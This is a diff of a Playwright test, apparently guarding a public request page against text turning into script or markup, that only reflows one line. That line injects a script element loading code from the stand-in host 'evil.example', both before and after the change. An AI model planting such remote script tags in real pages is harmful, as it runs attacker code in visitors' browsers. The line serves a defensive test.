@@ -53,7 +53,9 @@ def test_text_never_becomes_a_script_or_markup_on_a_public_page(open_page: Calla
     page.goto("/request/")
 
     page.evaluate("setTimeout(() => { document.body.innerHTML = '<b>x</b>' })")
-    page.evaluate("setTimeout(() => { document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'})) })")  # noqa: E501
+    page.evaluate(
+        "setTimeout(() => { document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'})) })"
+    )  # noqa: E501
     page.wait_for_timeout(500)
 
     assert page.locator("form").count() > 0
